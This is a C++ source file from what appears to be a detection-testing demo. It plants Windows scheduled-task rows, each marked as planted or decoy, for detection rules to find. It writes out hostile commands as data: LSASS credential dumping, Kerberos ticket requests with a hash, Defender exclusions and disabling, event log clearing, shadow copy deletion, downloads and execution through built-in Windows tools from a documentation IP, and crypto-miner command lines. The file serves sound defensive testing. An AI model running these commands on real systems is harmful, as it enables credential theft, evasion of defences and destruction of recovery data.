// Further forms of the commands in commands.cpp: the same checks look for each of them.
#include "tools/demo/exhibition/bytes.h"
#include "tools/demo/exhibition/exhibition.h"
#include "tools/demo/exhibition/task_rows.h"

namespace xiezhi::demo {
namespace {

using enum Role;

// clang-format off
constexpr auto kCommands = std::to_array<TaskRow>({
    {Planted, "credential_tool", R"(\More\credentials dumped)", R"(C:\Tools\pd.exe)", R"(-accepteula -ma lsass.exe D:\Out\l.dmp)"},
    {Planted, "credential_tool", R"(\More\tickets)", R"(C:\Tools\rb.exe)", "asktgt /user:li /rc4:8846f7eaee8fb117ad06bdd830b7586c"},
    {Planted, "credential_tool", R"(\More\collector)", R"(C:\Tools\bluehound.exe)", "-c All --zipfilename out.zip"},
    {Planted, "credential_tool", R"(\More\scanner)", R"(C:\Tools\fscan_new.exe)", "-h 10.20.0.0/16"},
    {Planted, "credential_tool", R"(\More\renamed executor)", R"(C:\Tools\px.exe)", R"(\\db01 hostname)"},
    {Decoy, "credential_tool", R"(\Acme More\executor)", R"(C:\Tools\PsExec64.exe)", R"(\\db01 hostname)"},
    {Planted, "defender_exclusion_by_command", R"(\More\exclusion in registry)", "reg.exe", R"(add "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" /v C:\TMP /t REG_DWORD /d 0 /f)"},
    {Planted, "defender_exclusion_by_command", R"(\More\exclusion of type)", "powershell.exe", R"(-c "Add-MpPreference -ExclusionExtension .ldf, .exe")"},
    {Planted, "defender_exclusion_by_command", R"(\More\exclusion of shell)", "powershell.exe", R"(-c "Add-MpPreference -ExclusionProcess powershell.exe")"},
    {Planted, "defender_exclusion_by_command", R"(\More\exclusion over wmi)", "wmic.exe", R"(/namespace:\\root\Microsoft\Windows\Defender class MSFT_MpPreference call Add ExclusionPath=C:\Windows\Temp)"},
    {Decoy, "defender_exclusion_by_command", R"(\Acme More\exclusion of server)", "powershell.exe", R"(-c "Add-MpPreference -ExclusionProcess 'C:\Program Files\Acme\server.exe'")"},
    {Planted, "defender_switched_off_by_command", R"(\More\protection in registry)", "reg.exe", R"(add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f)"},
    {Planted, "disguised_extension", R"(\More\extension of data)", R"(C:\Tools\de-notes.txt)"},
    {Planted, "disguised_extension", R"(\More\extension of setup)", R"(C:\Tools\de-part.tmp)"},
    {Planted, "disguised_extension", R"(\More\extension turned)", "C:\\Tools\\de-\u202Efdp.exe"},
    {Planted, "disguised_extension", R"(\More\extension far away)", R"("C:\Tools\de-plan.pdf                .exe")"},
    {Planted, "powershell_hidden_window", R"(\More\from a pipe)", "powershell.exe", "-nop -ep bypass -"},
    {Planted, "download_by_windows_tool", R"(\More\decode)", "certutil.exe", R"(-decode D:\Out\a.txt D:\Out\a.exe)"},
    {Planted, "download_by_windows_tool", R"(\More\package)", "msiexec.exe", "/q /i http://203.0.113.9/a.msi"},
    {Planted, "download_by_windows_tool", R"(\More\script in library)", "rundll32.exe", R"(javascript:"\..\mshtml,RunHTMLApplication ";alert(1))"},
    {Decoy, "download_by_windows_tool", R"(\Acme More\package)", "msiexec.exe", R"(/q /i D:\Install\agent.msi)"},
    {Planted, "event_log_switched_off", R"(\More\log stopped)", "sc.exe", "stop eventlog"},
    {Planted, "foreign_code_by_windows_tool", R"(\More\shell downloads)", "cmd.exe", R"(/c certutil -urlcache -f http://203.0.113.9/a D:\Out\a)"},
    {Planted, "foreign_code_by_windows_tool", R"(\More\assembly)", R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe)", R"(/logfile= /u C:\Users\Public\fc.dll)"},
    {Planted, "foreign_code_by_windows_tool", R"(\More\registered text)", "regsvr32.exe", R"(/s C:\Users\Public\fc.txt)"},
    {Planted, "foreign_code_by_windows_tool", R"(\More\style sheet)", "wmic.exe", "os get /format:http://203.0.113.9/a.xsl"},
    {Planted, "foreign_code_by_windows_tool", R"(\More\script host)", "wscript.exe", R"(C:\Users\Public\fc.js)"},
    {Decoy, "foreign_code_by_windows_tool", R"(\Acme More\registered)", "regsvr32.exe", R"(/s "C:\Program Files\Acme\acme.dll")"},
    {Planted, "log_cleared_by_command", R"(\More\clear in shell)", "powershell.exe", R"(-c "Clear-EventLog -LogName Security")"},
    {Planted, "log_cleared_by_command", R"(\More\clear over wmi)", "wmic.exe", "nteventlog where filename='security' call cleareventlog"},
    {Planted, "lsass_dump", R"(\More\dump of directory)", "ntdsutil.exe", R"("ac i ntds" "ifm" "create full D:\Out" q q)"},
    {Planted, "lsass_dump", R"(\More\dump by tool)", R"(C:\Tools\pd64.exe)", R"(-ma lsass D:\Out\l.dmp)"},
    {Planted, "miner_command_line", R"(\More\mine with wallet)", R"(C:\Tools\mc-wallet.exe)", "--url x.example:443 --user 4AExampPeWaLetExampPeWaLetExampPeWaLetExampPeWaLetExampPeWaLetExampPeWaLetExampPeWaLetExampPeWa"},
    {Planted, "miner_command_line", R"(\More\mine at pool)", R"(C:\Tools\mc-pool.exe)", "-o x.example:3333 -u erp01 -p x -k"},
    {Planted, "miner_command_line", R"(\More\mine by algorithm)", R"(C:\Tools\mc-algorithm.exe)", "--algo rx/0"},
    {Planted, "nameless_program_in_data_folder", R"(\More\nameless in temp)", R"(C:\Users\li\AppData\Local\Temp\nameless.exe)"},
    {Planted, "nameless_program_in_data_folder", R"(\More\nameless below temp)", R"(C:\Windows\Temp\job\nameless.exe)"},
    {Planted, "powershell_command_fetches_from_nowhere", R"(\More\fetch from paste)", "powershell.exe", R"(-c "irm https://hastebin.com/raw/abcd -OutFile D:\Out\a")"},
    {Planted, "powershell_encoded", R"(\More\encoded inline)", "powershell.exe", R"x(-c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:X))")x"},
    {Planted, "powershell_hidden_window", R"(\More\silent)", "powershell.exe", "-noni -ep bypass -c Get-Date"},
    {Planted, "random_program_name", R"(\More\random consonants)", R"(C:\ProgramData\Shop\qwrtzpsdf.exe)"},
    {Planted, "random_program_name", R"(\More\random hex)", R"(C:\Users\li\AppData\Roaming\3f8a2c9d1b.exe)"},
    {Planted, "random_program_name", R"(\More\random digits)", R"(C:\Users\Public\91827364.exe)"},
    {Planted, "recovery_inhibited", R"(\More\recovery in shell)", "powershell.exe", R"x(-c "Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }")x"},
    {Planted, "remote_tool_started", R"(\More\remote)", R"(C:\Tools\AnyDesk.exe)", "--start-with-win --silent"},
    {Planted, "run_key_by_command", R"(\More\run key in shell)", "powershell.exe", R"(-c "New-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Update -Value C:\Users\Public\rk.exe")"},
    {Planted, "scheduled_task", R"(\More\task of script)", "schtasks.exe", R"(/create /tn Update /sc onlogon /tr "powershell -w hidden -File D:\Out\t.ps1")"},
    {Planted, "security_services_stopped", R"(\More\backup removed)", "sc.exe", "delete VeeamBackupSvc"},
    {Planted, "security_services_stopped", R"(\More\start type)", "reg.exe", R"(add HKLM\SYSTEM\CurrentControlSet\services\WinDefend /v Start /t REG_DWORD /d 4 /f)"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of wizard)", "rundll32.exe", R"(pcwutl.dll,LaunchApplication C:\Tools\wl.exe)"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of panel)", "control.exe", R"(C:\Users\Public\wl.cpl)"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of engine)", "cscript.exe", R"(//e:vbscript C:\Tools\wl.txt)"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of page)", "mshta.exe", R"(C:\Users\li\AppData\Local\Microsoft\Windows\INetCache\IE\AB12\wl[1].hta)"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of picture)", "desktopimgdownldr.exe", "/lockscreenurl:http://203.0.113.9/a.jpg /eventName:a"},
    {Planted, "windows_tool_turned_launcher", R"(\More\launcher of profile)", "cmstp.exe", R"(/s C:\Users\Public\wl.inf)"},
    {Decoy, "windows_tool_turned_launcher", R"(\Acme More\panel)", "control.exe", "desk.cpl"},
});
// clang-format on

}  // namespace

void exhibit_more_commands(const Exhibition& at) {
    put_tasks(at.exhibit, "7C3F9B22", kCommands);
    // What two of them are called by their makers, and who made others.
    const std::string executor = program({.original_name = "psexec.c"});
    at.exhibit.file("Tools/px.exe", executor);
    at.exhibit.file("Tools/PsExec64.exe", executor);
    const std::string nameless = program({.company = "-"});
    at.exhibit.file("Users/li/AppData/Local/Temp/nameless.exe", nameless);
    at.exhibit.file("Windows/Temp/job/nameless.exe", nameless);
}

}  // namespace xiezhi::demo
